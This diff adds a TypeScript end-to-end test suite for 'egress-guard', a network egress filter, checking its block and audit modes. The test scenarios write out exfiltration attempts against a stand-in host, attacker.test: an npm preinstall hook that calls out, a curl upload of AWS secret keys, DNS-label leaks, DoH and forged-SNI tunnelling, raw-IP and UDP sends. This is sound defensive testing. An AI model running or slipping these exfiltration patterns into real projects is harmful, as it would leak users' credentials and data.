@@ -1,0 +1,293 @@
+/**
+ * End-to-end attack suite: real clients (curl, dig, node, npm, git) in a runner network namespace whose
+ * traffic egress-guard intercepts with its own rules, against servers in an "internet" namespace.
+ * Each scenario asserts the client's outcome, what reached the internet side, and the decision event.
+ * Needs root (network namespaces, iptables): it fails, never skips, when it cannot build them.
+ */
+import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
+import { mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
+import path from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { NET, PACKAGE, World } from './harness.js';
+
+let world: World;
+
+before(async () => {
+  world = await World.create();
+});
+
+after(async () => {
+  await world?.close();
+});
+
+type Mode = 'block' | 'audit';
+
+const outcomeFor = (mode: Mode) => (mode === 'block' ? 'blocked' : 'would-block');
+
+function curl(mode: Mode, args: string[], options: { input?: string } = {}) {
+  return world.job('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, ...args], options);
+}
+
+function arrivedAt(predicate: (e: Record<string, unknown>) => boolean) {
+  return world.internetLog().filter(predicate);
+}
+
+function randomLabel(length: number): string {
+  return randomBytes(length).toString('hex').slice(0, length);
+}
+
+for (const mode of ['block', 'audit'] as const) {
+  describe(`${mode} mode`, () => {
+    before(async () => {
+      await world.startEgressGuard(mode);
+    });
+    after(async () => {
+      await world.stopEgressGuard();
+    });
+
+    test('control: allowed.test over HTTPS and HTTP works, and is logged as allowed', async () => {
+      const https = await curl(mode, ['https://allowed.test/']);
+      assert.equal(https.code, 0, https.stderr);
+      assert.match(https.stdout, /hello from allowed\.test/);
+      const event = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 443);
+      assert.ok(event, 'transparent decision for allowed.test:443');
+      assert.equal(event.decision, 'allowed');
+      assert.equal(event.sni, 'allowed.test');
+      assert.ok(event.ip === NET.allowed || event.ip === NET.allowed6, `connected to allowed.test's address, got ${event.ip}`);
+      const plain = await curl(mode, ['http://allowed.test/']);
+      assert.equal(plain.code, 0, plain.stderr);
+      assert.match(plain.stdout, /hello from allowed\.test/);
+      const httpEvent = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 80);
+      assert.equal(httpEvent?.decision, 'allowed');
+      assert.equal(httpEvent?.method, 'GET');
+    });
+
+    test('1: npm install with a preinstall calling attacker.test through node https (ignores HTTP_PROXY)', async () => {
+      const marker = `npm-${mode}-${randomLabel(12)}`;
+      const project = path.join(world.dir, `npm-project-${mode}`);
+      mkdirSync(project, { recursive: true });
+      const steal = `require('https').get('https://attacker.test/collect?d=${marker}', (r) => { r.resume(); r.on('end', () => process.exit(0)); }).on('error', (e) => { console.error('preinstall: ' + e.code); process.exit(0); })`;
+      writeFileSync(path.join(project, 'package.json'), JSON.stringify({
+        name: 'victim', version: '1.0.0', private: true,
+        scripts: { preinstall: `node -e "${steal.replace(/"/g, '\\"')}"` },
+        dependencies: { [PACKAGE.name]: PACKAGE.version },
+      }));
+      const result = await world.job('npm', ['install', '--no-audit', '--no-fund', '--foreground-scripts'], {
+        cwd: project, timeoutMs: 90_000,
+        env: {
+          npm_config_registry: 'https://registry.test/', npm_config_cafile: world.caFile, NODE_EXTRA_CA_CERTS: world.caFile,
+          npm_config_cache: path.join(world.dir, `npm-cache-${mode}`), npm_config_update_notifier: 'false',
+          // npm itself honours the proxy variables; the preinstall's https.get does not.
+          HTTPS_PROXY: 'http://127.0.0.1:3128', https_proxy: 'http://127.0.0.1:3128',
+        },
+      });
+      assert.equal(result.code, 0, `npm install failed: ${result.stderr}`);
+      assert.ok(existsSync(path.join(project, 'node_modules', PACKAGE.name, 'package.json')), 'the allowed package is installed from registry.test');
+      const stolen = arrivedAt((e) => e.type === 'http' && String(e.url).includes(marker));
+      const attackerEvent = await world.decision((e) => e.host === 'attacker.test');
+      assert.ok(attackerEvent, 'a decision event for attacker.test');
+      assert.equal(attackerEvent.decision, outcomeFor(mode));
+      if (mode === 'block') {
+        assert.equal(stolen.length, 0, 'nothing reached attacker.test');
+      } else {
+        assert.equal(stolen.length, 1, 'audit mode lets the request through');
+        assert.ok(await world.decision((e) => e.kind === 'transparent' && e.host === 'attacker.test' && e.decision === 'would-block'));
+      }
+      const registry = await world.decision((e) => e.host === 'registry.test' && (e.kind === 'connect' || e.kind === 'transparent'));
+      assert.equal(registry?.decision, 'allowed', 'npm reached registry.test');
+    });
+
+    test('2: uploader-style curl of the environment to attacker.test/upload (by name, and with --resolve past DNS)', async () => {
+      const secret = `SECRET_${mode}_${randomLabel(16)}`;
+      const env = `CI=true\nAWS_SECRET_ACCESS_KEY=${secret}\n`;
+      const byName = await curl(mode, ['-X', 'POST', '--data-binary', '@-', 'https://attacker.test/upload'], { input: env });
+      const pinned = await curl(mode, ['-X', 'POST', '--data-binary', '@-', '--resolve', `attacker.test:443:${NET.attacker}`, 'https://attacker.test/upload'], { input: env });
+      const bodies = arrivedAt((e) => e.type === 'http' && String(e.body).includes(secret));
+      const transparent = await world.decision((e) => e.kind === 'transparent' && e.host === 'attacker.test' && e.sni === 'attacker.test' && e.ip === NET.attacker);
+      assert.ok(transparent, 'transparent decision for the pinned upload');
+      assert.equal(transparent.decision, outcomeFor(mode));
+      assert.equal(transparent.reason, 'not-allowed-endpoint');
+      if (mode === 'block') {
+        assert.notEqual(byName.code, 0, 'the upload by name fails');
+        assert.notEqual(pinned.code, 0, 'the upload to the pinned address fails');
+        assert.equal(bodies.length, 0, 'the secret never reached the attacker server');
+      } else {
+        assert.equal(pinned.code, 0, pinned.stderr);
+        assert.equal(bodies.length, 2, 'audit mode forwards both uploads');
+      }
+    });
+
+    test('3: raw-IP connects (https://203.0.113.77/, http://<decimal>/, http://<hex>/) are decided as raw-ip', async () => {
+      const before = world.internetLog().length;
+      const decimal = String(NET.rawOnly.split('.').reduce((n, o) => n * 256 + Number(o), 0));
+      const hex = `0x${NET.rawOnly.split('.').map((o) => Number(o).toString(16).padStart(2, '0')).join('')}`;
+      const tls = await curl(mode, [`https://${NET.rawOnly}/`]);
+      const dec = await curl(mode, ['-i', `http://${decimal}/`]);
+      const hx = await curl(mode, ['-i', `http://${hex}/`]);
+      const events = world.events().filter((e) => e.event === 'decision' && e.kind === 'transparent' && e.ip === NET.rawOnly);
+      assert.ok(events.length >= 3, `three raw-ip decisions, got ${events.length}`);
+      for (const e of events) {
+        assert.equal(e.event === 'decision' && e.reason, 'raw-ip');
+        assert.equal(e.event === 'decision' && e.decision, outcomeFor(mode));
+      }
+      const arrived = world.internetLog().slice(before).filter((e) => e.type === 'http' && e.local && String(e.local).endsWith(NET.rawOnly));
+      if (mode === 'block') {
+        assert.notEqual(tls.code, 0);
+        assert.match(dec.stdout, /403/);
+        assert.match(dec.stdout, /x-egress-guard-reason: .*raw IP/i);
+        assert.match(hx.stdout, /403/);
+        assert.equal(arrived.length, 0);
+      } else {
+        assert.equal(tls.code, 0, tls.stderr);
+        assert.match(dec.stdout, /hello from 203\.0\.113\.77/);
+        assert.equal(arrived.length, 3);
+      }
+    });
+
+    test('4: DNS exfiltration: dig <60 chars>.attacker.test over UDP, +tcp, and @another resolver', async () => {
+      const names = [0, 1, 2].map(() => `${randomLabel(60)}.attacker.test`);
+      const udp = await world.job('dig', ['+tries=1', '+time=3', names[0]!]);
+      const tcp = await world.job('dig', ['+tcp', '+tries=1', '+time=3', names[1]!]);
+      const other = await world.job('dig', ['+tries=1', '+time=3', `@${NET.otherResolver}`, names[2]!]);
+      for (const r of [udp, tcp, other]) assert.equal(r.code, 0, `dig gets an answer from egress-guard: ${r.stderr}`);
+      const seen = arrivedAt((e) => e.type === 'dns').map((e) => String(e.name));
+      assert.equal(arrivedAt((e) => e.type === 'dns' && e.server === NET.otherResolver).length, 0, 'the other resolver never sees a query');
+      for (const [i, name] of names.entries()) {
+        const event = await world.decision((e) => e.kind === 'dns' && e.host === name);
+        assert.ok(event, `dns decision for query ${i}`);
+        assert.equal(event.decision, outcomeFor(mode));
+        if (mode === 'block') assert.ok(!seen.includes(name), `query ${i} never reached the authoritative server`);
+      }
+      if (mode === 'block') {
+        for (const r of [udp, tcp, other]) assert.match(r.stdout, /status: (NXDOMAIN|REFUSED)/);
+      } else {
+        assert.ok(seen.includes(names[0]!), 'audit mode forwards the query');
+      }
+    });
+
+    test('5: DNS-over-HTTPS to a non-allowed resolver, and to the attacker under a forged allowed SNI', async () => {
+      const doh = await curl(mode, ['--doh-url', 'https://attacker.test/dns-query', 'https://allowed.test/']);
+      const dohEvent = await world.decision((e) => e.host === 'attacker.test' && (e.kind === 'dns' || e.kind === 'transparent'));
+      assert.equal(dohEvent?.decision, outcomeFor(mode));
+      const fronted = await curl(mode, ['--connect-to', `allowed.test:443:${NET.attacker}:443`, 'https://allowed.test/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB']);
+      const event = await world.decision((e) => e.kind === 'transparent' && e.reason === 'sni-mismatch' && e.ip === NET.attacker && e.port === 443);
+      assert.ok(event, 'sni-mismatch decision');
+      assert.equal(event.decision, outcomeFor(mode));
+      const arrived = arrivedAt((e) => e.type === 'http' && String(e.url).startsWith('/dns-query'));
+      if (mode === 'block') {
+        assert.notEqual(doh.code, 0, 'curl cannot resolve through the blocked DoH server');
+        assert.notEqual(fronted.code, 0);
+        assert.equal(arrived.length, 0, 'no DoH request reached the attacker');
+      } else {
+        assert.equal(fronted.code, 0, fronted.stderr);
+        assert.ok(arrived.length >= 1);
+      }
+    });
+
+    test('6: a TLS client sending SNI allowed.test to the attacker IP is blocked as sni-mismatch', async () => {
+      const marker = `sni-${mode}-${randomLabel(10)}`;
+      const script = `const tls=require('tls');const fs=require('fs');const s=tls.connect({host:'${NET.attacker}',port:443,servername:'allowed.test',ca:fs.readFileSync('${world.caFile}')},()=>{s.end('GET /${marker} HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
+      const result = await world.job('node', ['-e', script]);
+      const event = await world.decision((e) => e.kind === 'transparent' && e.sni === 'allowed.test' && e.ip === NET.attacker);
+      assert.ok(event);
+      assert.equal(event.reason, 'sni-mismatch');
+      assert.equal(event.host, 'allowed.test');
+      assert.equal(event.decision, outcomeFor(mode));
+      const arrived = arrivedAt((e) => e.type === 'http' && String(e.url).includes(marker));
+      if (mode === 'block') {
+        assert.equal(result.code, 3, 'the client sees a reset');
+        assert.equal(arrived.length, 0);
+      } else {
+        assert.equal(result.code, 0, result.stderr);
+        assert.equal(arrived.length, 1);
+      }
+    });
+
+    test('7: git:// (non-TLS, non-HTTP TCP) to an allowed name and port works; to another port it is blocked', async () => {
+      const ok = await world.job('git', ['ls-remote', 'git://allowed.test/repo.git'], { env: { GIT_CONFIG_NOSYSTEM: '1' } });
+      assert.equal(ok.code, 0, ok.stderr);
+      assert.match(ok.stdout, /refs\/heads\/main/);
+      const allowed = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 9418);
+      assert.equal(allowed?.decision, 'allowed');
+      assert.equal(allowed?.sni, undefined);
+      const before = arrivedAt((e) => e.type === 'tcp-connect').length;
+      const other = await world.job('git', ['ls-remote', 'git://allowed.test:9419/repo.git'], { env: { GIT_CONFIG_NOSYSTEM: '1' }, timeoutMs: 15_000 });
+      assert.notEqual(other.code, 0);
+      const event = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 9419);
+      assert.ok(event, 'decision for allowed.test:9419, attributed through DNS');
+      assert.equal(event.reason, 'not-allowed-endpoint');
+      assert.equal(event.decision, outcomeFor(mode));
+      const connects = arrivedAt((e) => e.type === 'tcp-connect').length - before;
+      assert.equal(connects, mode === 'block' ? 0 : 1);
+    });
+
+    test('8: UDP to 443 (QUIC) and to an arbitrary port is dropped in block mode, logged only in audit mode', async () => {
+      const marker = `udp-${mode}-${randomLabel(8)}`;
+      const script = `const d=require('dgram').createSocket('udp4');let errors=0;let n=0;const send=(p)=>d.send('${marker}',p,'${NET.attacker}',(e)=>{if(e)errors++;if(++n===4){setTimeout(()=>{console.log('errors='+errors);process.exit(0)},300)}});send(443);send(9999);setTimeout(()=>{send(443);send(9999)},100);d.on('error',()=>{});`;
+      const result = await world.job('node', ['-e', script]);
+      assert.equal(result.code, 0, result.stderr);
+      await new Promise((r) => setTimeout(r, 300));
+      const arrived = arrivedAt((e) => e.type === 'udp' && e.data === marker);
+      if (mode === 'block') {
+        assert.equal(arrived.length, 0, 'no datagram reached the attacker');
+        assert.match(result.stdout, /errors=[1-9]/, 'the sender is told (EPERM/ECONNREFUSED), so it can fall back');
+      } else {
+        assert.equal(new Set(arrived.map((e) => e.port)).size, 2, 'audit mode passes UDP to both ports');
+      }
+    });
+
+    test('9: IPv6: raw-IP, forged SNI and by-name calls over IPv6 are decided the same way', async () => {
+      const byName = await curl(mode, ['-6', 'https://allowed.test/']);
+      assert.equal(byName.code, 0, byName.stderr);
+      const allowed6 = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.ip === NET.allowed6);
+      assert.equal(allowed6?.decision, 'allowed');
+      const raw = await curl(mode, [`https://[${NET.rawOnly6}]/`]);
+      const rawEvent = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.rawOnly6);
+      assert.equal(rawEvent?.reason, 'raw-ip');
+      assert.equal(rawEvent?.decision, outcomeFor(mode));
+      const forged = await curl(mode, ['--connect-to', `allowed.test:443:[${NET.attacker6}]:443`, 'https://allowed.test/v6-forged']);
+      const forgedEvent = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.attacker6 && e.sni === 'allowed.test');
+      assert.equal(forgedEvent?.reason, 'sni-mismatch');
+      assert.equal(forgedEvent?.decision, outcomeFor(mode));
+      const udp = await world.job('node', ['-e', `const d=require('dgram').createSocket('udp6');d.send('v6-${mode}',9999,'${NET.attacker6}',(e)=>{console.log(e?e.code:'sent');setTimeout(()=>process.exit(0),200)});`]);
+      assert.equal(udp.code, 0);
+      await new Promise((r) => setTimeout(r, 300));
+      const arrived = arrivedAt((e) => (e.type === 'http' && (String(e.local).includes(NET.rawOnly6) || e.url === '/v6-forged')) || (e.type === 'udp' && e.data === `v6-${mode}`));
+      if (mode === 'block') {
+        assert.notEqual(raw.code, 0);
+        assert.notEqual(forged.code, 0);
+        assert.equal(arrived.length, 0, JSON.stringify(arrived));
+      } else {
+        assert.equal(arrived.length, 3, JSON.stringify(arrived));
+      }
+    });
+  });
+}
+
+describe('10: egress-guard killed mid-job in block mode', () => {
+  test('new connections and DNS fail (refused), nothing leaks', async () => {
+    await world.startEgressGuard('block');
+    try {
+      const ok = await curl('block', ['https://allowed.test/']);
+      assert.equal(ok.code, 0, ok.stderr);
+      await world.stopEgressGuard({ signal: 'SIGKILL', keepRules: true });
+      const marker = `after-kill-${randomLabel(10)}`;
+      const before = world.internetLog().length;
+      const allowed = await curl('block', ['https://allowed.test/']);
+      // By name: DNS is redirected to the dead resolver (6); pinned addresses: the redirect finds no listener (7).
+      assert.ok(allowed.code === 6 || allowed.code === 7, `curl fails to resolve or connect, got ${allowed.code} ${allowed.stderr}`);
+      const pinned = await curl('block', ['--resolve', `attacker.test:443:${NET.attacker}`, `https://attacker.test/${marker}`]);
+      assert.equal(pinned.code, 7);
+      const raw6 = await curl('block', [`https://[${NET.rawOnly6}]/${marker}`]);
+      assert.equal(raw6.code, 7);
+      const dig = await world.job('dig', ['+tries=1', '+time=2', `${marker}.attacker.test`]);
+      assert.notEqual(dig.code, 0, 'no resolver answers');
+      const dig2 = await world.job('dig', ['+tries=1', '+time=2', `@${NET.dns}`, `${marker}.attacker.test`]);
+      assert.notEqual(dig2.code, 0);
+      assert.deepEqual(world.internetLog().slice(before), [], 'nothing reached the internet namespace');
+    } finally {
+      await world.stopEgressGuard();
+    }
+  });
+});
